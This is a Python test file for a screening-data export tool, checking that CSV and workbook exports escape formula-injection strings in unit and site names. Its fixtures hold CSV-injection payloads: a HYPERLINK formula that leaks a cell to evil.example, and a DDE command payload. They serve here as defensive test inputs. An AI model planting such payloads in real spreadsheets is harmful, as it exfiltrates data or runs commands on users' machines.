"""Exports carry no formulas: a unit named like a formula is text in the CSV and the workbook,
read back as a spreadsheet would, and the figures beside it stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from outreach.clock import now
from outreach.exports.cells import csv_text, xlsx_text
from outreach.exports.export import export_summary
from outreach.model import Person, ScreeningEvent, Stay, Unit
from tests.support.stores import new_store

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
UNITS = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab Wing",
    "\rReturn Wing",
)
# A name stored before the boundary refused control characters: it must not stop the workbook.
LEGACY = "Cedar\x00Wing"


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Ten residents aged 40 in each unit, the first eight of each covered on 2023-05-10."""
    folder = tmp_path_factory.mktemp("formulas")
    store = new_store(folder / "store", site="=1+1")
    try:
        with store.write() as session:
            for u, name in enumerate((*UNITS, LEGACY)):
                unit = Unit(name=name)
                session.add(unit)
                session.flush()
                for i in range(10):
                    person = Person(
                        ref=f"R{u}{i:02d}",
                        display_name=f"Person {u} {i}",
                        date_of_birth=date(1984, 1, 1),
                        has_cervix="yes",
                        created_at=now(),
                    )
                    session.add(person)
                    session.flush()
                    assert person.id is not None
                    session.add(
                        Stay(person_id=person.id, unit_id=unit.id, arrived_on=date(2022, 1, 5))
                    )
                    if i < 8:
                        session.add(
                            ScreeningEvent(
                                person_id=person.id,
                                occurred_on=date(2023, 5, 10),
                                event="test",
                                hpv="negative",
                                created_at=now(),
                            )
                        )
        out = folder / "out"
        export_summary(
            store, period="2024-Q3", out=out, as_of=date(2024, 11, 15), formats=["csv", "xlsx"]
        )
        yield out
    finally:
        store.close()


def test_csv_text_prefixes_exactly_the_formula_triggers() -> None:
    assert [csv_text(t) for t in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert [csv_text(t) for t in ("Alder Wing", "1=1", " =1", "", "25-49")] == [
        "Alder Wing",
        "1=1",
        " =1",
        "",
        "25-49",
    ]


def test_xlsx_text_replaces_what_xml_cannot_hold() -> None:
    assert xlsx_text("a\x00b\x1bc\td\ne") == "a\ufffdb\ufffdc\td\ne"


def test_csv_unit_names_read_back_as_text_and_figures_as_numbers(exported: Path) -> None:
    with (exported / "summary.csv").open(encoding="utf-8-sig", newline="") as data:
        rows = [r for r in csv.DictReader(data) if r["breakdown"] == "unit"]
    coverage = {r["category"]: r for r in rows if r["measure"] == "coverage.eligible"}
    assert sorted(coverage) == sorted(["'" + name for name in UNITS] + [LEGACY])
    # 10 eligible in each unit, rounded to the nearest 5: 10, a number, not text.
    assert {r["value"] for r in coverage.values()} == {"10"}
    # No cell of the whole file starts with a formula trigger.
    with (exported / "summary.csv").open(encoding="utf-8-sig", newline="") as data:
        cells = [cell for row in csv.reader(data) for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert [c for c in cells if c.startswith("-")] == []


def test_xlsx_unit_names_are_string_cells_and_figures_numbers(exported: Path) -> None:
    book = load_workbook(exported / "summary.xlsx")
    sheet = book["Breakdowns"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    units = {row[2].value: row[3] for row in sheet.iter_rows() if row[1].value == "Unit" and row[3]}
    # XML reads a carriage return back as a line feed; the cell is text either way.
    expected = [name.replace("\r", "\n") for name in UNITS]
    assert sorted(units) == sorted([*expected, "Cedar\ufffdWing"])
    assert {c.data_type for c in units.values()} <= {"n", "s"}
    # The site name "=1+1" heads every sheet as text.
    for name in book.sheetnames[:3]:
        heading = book[name]["A1"]
        assert (heading.value, heading.data_type) == ("Cervical screening: =1+1", "s")


def test_no_sheet_of_the_workbook_holds_a_formula(exported: Path) -> None:
    book = load_workbook(exported / "summary.xlsx")
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
